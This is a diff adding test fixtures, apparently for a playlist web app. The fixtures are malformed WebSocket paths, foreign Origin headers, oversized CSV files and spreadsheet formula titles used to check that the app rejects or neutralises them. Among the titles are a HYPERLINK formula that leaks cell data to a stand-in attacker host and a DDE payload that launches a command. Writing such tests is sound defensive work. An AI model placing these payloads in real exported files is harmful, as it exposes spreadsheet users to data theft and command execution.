@@ -139,3 +139,59 @@ BAD_PLAYLIST_REFERENCES = {
     "javascript URL": "javascript:alert(1)",
     "huge": HUGE,
 }
+
+# WebSocket paths no consumer serves: each is closed cleanly (4404), never an error.
+WEBSOCKET_UNKNOWN_PATHS = {
+    "unknown": "/ws/unknown/",
+    "root": "/",
+    "live without its slash": "/ws/live",
+    "below live": "/ws/live/extra/",
+    "an HTTP page": "/accounts/login/",
+    "percent-encoded NUL": "/ws/%00/",
+    "very long": "/ws/" + "a" * 10_000 + "/",
+    "unicode": "/ws/événements/",
+}
+
+# Origin headers a socket to http://localhost:8000 must refuse: (origin or None).
+WEBSOCKET_FOREIGN_ORIGINS = {
+    "another site": "http://evil.example",
+    "same host, another port": "http://localhost:9999",
+    "same host, https default port": "https://localhost",
+    "a look-alike domain": "http://localhost.evil.example:8000",
+    "opaque (sandboxed iframe)": "null",
+    "no scheme": "localhost:8000",
+    "a file page": "file://",
+    "garbage": "::::",
+    "port out of range": "http://localhost:99999",
+    "none at all": None,
+}
+
+# CSV files at the reader's limits: name -> (bytes, words of the refusal, or None when
+# the file is read: its good rows imported and the rest reported; REPORTED when a broken
+# quote leaves nothing after it readable, which is then reported rather than guessed at).
+REPORTED = "reported"
+CSV_AT_LIMITS = {
+    "a 1 MB header line": (b"title,artist," + b"x" * 1_000_000 + b"\nSong,Band,1\n", "longer than 65,536"),
+    "a 200 KB quoted header field": (b'title,artist,"' + b"x" * 200_000 + b'"\nSong,Band,1\n', "longer than 65,536"),
+    "5 MB without a line break": (b"title,artist" + b",x" * 2_500_000, "longer than 65,536"),
+    "an unclosed quote in the header": (b'title,artist,"notes\nSong,Band,1\n', None),
+    "10,000 columns": (
+        b"title,artist," + b",".join(b"c%d" % i for i in range(10_000)) + b"\nSong,Band" + b",1" * 10_000 + b"\n",
+        None,
+    ),
+    "10,000 columns none usable": (b",".join(b"c%d" % i for i in range(10_000)) + b"\n1\n", "and 9980 more"),
+    "a 200 KB cell": (b"title,artist\n" + b"A" * 200_000 + b",Band\nSong,Band\n", None),
+    "a 200 KB quoted cell over many lines": (b'title,artist\n"' + b"A\n" * 100_000 + b'",Band\nSong,Band\n', REPORTED),
+    "a row of 5,000 columns": (b"title,artist\n" + b"x," * 5_000 + b"\nSong,Band\n", None),
+}
+
+# Titles a spreadsheet would run as formulas: stored as given, neutralised on export.
+FORMULA_TITLES = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=7*8",
+    "\r=9/6",
+]
